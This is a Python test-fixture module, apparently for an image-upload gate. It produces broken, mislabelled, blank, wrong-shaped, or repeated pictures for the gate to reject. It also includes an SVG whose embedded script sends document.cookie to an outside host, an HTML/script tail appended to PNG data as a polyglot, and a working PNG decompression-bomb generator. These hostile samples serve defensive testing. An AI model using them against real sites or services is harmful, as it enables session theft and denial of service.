"""Pictures that a gate must not let through: broken, mislabelled, dangerous, flat, or seen before."""

from __future__ import annotations

import functools
import io
import struct
import zlib
from dataclasses import replace

import numpy as np
from PIL import Image

from sandbox import painter
from sandbox.calls import Answer, Ask, Picture
from sandbox.fault_names import Fault

TINY_PNG_SIZE = (1, 1)
BOMB_SIDE = 20_000  # 400 megapixels in some 50 kB: over twice the limit of Pillow, where it raises
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="{0}" height="{1}"><rect width="100%" height="100%" fill="#14213d"/>'
    "<script>fetch('https://example.com/'+document.cookie)</script></svg>"
)
TAIL = b"<!doctype html><script>alert(document.domain)</script>"


def spoil_pictures(answer: Answer, ask: Ask, fault: Fault, key: str, last: Picture | None) -> Answer:
    """Return the answer with each of its pictures as the fault leaves it."""
    pictures = tuple(spoiled(picture, ask, fault, key, last) for picture in answer.pictures)
    return replace(answer, pictures=pictures)


def spoiled(picture: Picture, ask: Ask, fault: Fault, key: str, last: Picture | None) -> Picture:
    """Return one picture as the fault leaves it; a fault of another sort leaves it as it is."""
    match fault:
        case Fault.WRONG_ASPECT:
            return _of_other_shape(ask, key)
        case Fault.BLANK:
            return replace(picture, data=painter.encode(_blank(painter.size_of(ask)), ask.mime))
        case Fault.SIBLING:
            return last or picture
        case _:
            return _recoded(picture, painter.size_of(ask), fault)


def _recoded(picture: Picture, size: tuple[int, int], fault: Fault) -> Picture:
    """Return the picture in bytes that are not what they seem."""
    data, mime = picture.data, "image/png"
    match fault:
        case Fault.TRUNCATED_IMAGE:
            # A multiple of three bytes, so that the base64 text stays well formed.
            data, mime = data[: len(data) // 6 * 3], picture.mime
        case Fault.JPEG_LABELLED_PNG:
            data = painter.encode(_opened(picture), "image/jpeg")
        case Fault.TINY_IMAGE:
            data = painter.encode(Image.new("RGB", TINY_PNG_SIZE, (40, 40, 40)))
        case Fault.SVG:
            data, mime = SVG.format(*size).encode(), "image/svg+xml"
        case Fault.POLYGLOT:
            data, mime = data + TAIL, picture.mime
        case Fault.BOMB:
            data = _bomb()
        case _:
            mime = picture.mime
    return Picture(data, mime)


def _opened(picture: Picture) -> Image.Image:
    return Image.open(io.BytesIO(picture.data)).convert("RGB")


def _of_other_shape(ask: Ask, key: str) -> Picture:
    """Return a picture much wider than asked for, or much taller where a wide one was."""
    width, height = painter.size_of(ask)
    is_wide = painter.ratio_nearest((width, height)) == "16:9"
    size = painter.SIZES["9:16" if is_wide else "16:9"]
    return Picture(painter.encode(painter.render(ask.prompt, size, key), ask.mime), ask.mime)


def _blank(size: tuple[int, int]) -> Image.Image:
    """Return a grey surface, heavy enough in bytes but with nothing on it."""
    grain = np.random.default_rng(1).integers(0, 2, (size[1], size[0], 3), np.uint8)
    return Image.fromarray(128 + grain)


@functools.cache
def _bomb() -> bytes:
    """Return a small PNG that unpacks to `BOMB_SIDE` squared pixels."""
    packer = zlib.compressobj(9)
    row = bytes(1 + BOMB_SIDE // 8)
    rows = b"".join(packer.compress(row * 100) for _ in range(BOMB_SIDE // 100)) + packer.flush()
    head = struct.pack(">IIBBBBB", BOMB_SIDE, BOMB_SIDE, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
